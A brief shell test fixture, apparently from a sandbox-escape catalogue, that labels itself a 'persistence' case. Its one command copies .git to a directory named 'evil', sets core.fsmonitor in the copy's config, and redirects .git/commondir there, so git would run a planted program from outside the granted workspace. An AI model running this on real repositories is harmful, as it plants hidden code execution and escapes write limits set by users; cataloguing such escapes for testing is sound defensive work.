# SPDX-License-Identifier: Apache-2.0
# The repository itself gets a common directory elsewhere, whose configuration names a program.
# class: persistence
# plants: repositories
# args: ran
# grants: --write {ws} --outcome {outcome}
# escaped: unlisted ws/.git/commondir
cp -r .git evil; printf '[core]\n\tfsmonitor = x\n' >> evil/config; echo ../evil > .git/commondir
